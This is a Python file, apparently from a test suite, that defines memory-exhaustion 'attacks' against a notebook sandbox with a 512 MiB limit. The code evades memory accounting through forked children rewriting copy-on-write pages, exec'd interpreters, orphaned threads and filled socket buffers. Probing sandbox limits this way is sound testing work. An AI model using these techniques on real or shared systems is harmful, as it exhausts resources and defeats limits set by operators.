"""Attacks that hold more memory than is allowed."""

import re

from attack import Attack, wrong


class TensorOfAllMemory(Attack):
    """Fills memory with tensors and lists, a little at a time and all at once."""

    double = """
kept = []
def double(x):
    kept.append(torch.ones(10**9))
    return x
def row_sums(x):
    while True:
        kept.append(torch.ones(10**6))
def biggest(x):
    while True:
        kept.extend([[None] * 10**5 for _ in range(10)])
"""
    row_sums = biggest = ""


class MemoryOfManyProcesses(Attack):
    """Holds memory where little seems to be: rewritten forks, programs, lost first threads, sockets."""

    daily = "tensor_of_all_memory"
    proof = "begins"
    MOST = 800  # MiB; 512 are allowed
    HOLD = """
import ctypes, os, socket, sys, threading, time
libc = ctypes.CDLL(None)
def told(many, work):
    "The sum of what as many children say that they hold, who then keep it."
    reader, writer = os.pipe()
    for _ in range(many):
        if os.fork() == 0:
            try:
                work(lambda held: os.write(writer, b"%d\\n" % (held >> 20)))
                time.sleep(20)
            finally:
                os._exit(0)
    said = b""
    while said.count(b"\\n") < many:
        said += os.read(reader, 4096)
    time.sleep(1)
    return sum(map(int, said.split()))
def rewritten(tell):
    "Writes over what it shares with its parent, and so makes it its own."
    held = 0
    with open("/proc/self/maps") as maps, open("/proc/self/pagemap", "rb") as pages:
        places = [line.split()[:2] for line in maps if "[stack]" not in line]
        for span, rights in places:
            start, end = (int(place, 16) for place in span.split("-"))
            if "rw" not in rights:
                continue
            pages.seek(start // 4096 * 8)
            for place in range(start, end, 4096):
                if pages.read(8)[7] & 128:  # there is a page at all
                    ctypes.c_char.from_address(place).value = ctypes.c_char.from_address(place).value
                    held += 4096
    tell(held)
def after_exec(tell):
    tell(0)  # the program itself keeps what it says
    code = "import time; held = b'x' * (100 << 20); time.sleep(20)"
    os.execv(sys.executable, [sys.executable, "-S", "-E", "-c", code])
def without_its_first_thread(tell):
    def hold():
        time.sleep(0.2)  # by now the first thread is gone
        held = [b"x" * 2**20 for _ in range(200)]
        tell(200 << 20)
        time.sleep(20)
    threading.Thread(target=hold).start()
    libc.syscall(60 if os.uname().machine == "x86_64" else 93, 0)
def in_sockets(tell):
    kept, held = [], 0
    for pair in (socket.socketpair() for _ in range(80)):
        kept.append(pair)
        for end in pair:
            end.setblocking(False)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
            try:
                while True:
                    held += end.send(b"x" * 2**15)
            except BlockingIOError:
                pass
    tell(held)
    time.sleep(20)
def hold(many, way):
    held = told(many, way)
    if way is after_exec:
        time.sleep(3)
        numbers = filter(str.isdigit, os.listdir("/proc"))
        programs = [open(f"/proc/{number}/statm").read().split() for number in numbers]
        held = sum(int(pages[1]) - int(pages[2]) for pages in programs) >> 8
    print("holds", held, "MiB", way.__name__, flush=True)
def double(x):
    hold(8, rewritten)
def row_sums(x):
    hold(12, after_exec)
def biggest(x):
    hold(5, without_its_first_thread)
def by_sockets():
    hold(8, in_sockets)
print("begins")
"""

    def submission(self, arena):
        notebook = wrong(double=self.HOLD, row_sums="", biggest="")
        notebook.cells.append(
            notebook.cells[1].copy() | {"source": "by_sockets()", "id": "more", "metadata": {}}
        )
        return notebook

    def harm(self, arena):
        held = re.findall(r"holds (\d+) MiB (\w+)", arena.shown(self.name))
        return "".join(f"it held {size} MiB {way}; " for size, way in held if int(size) > self.MOST)
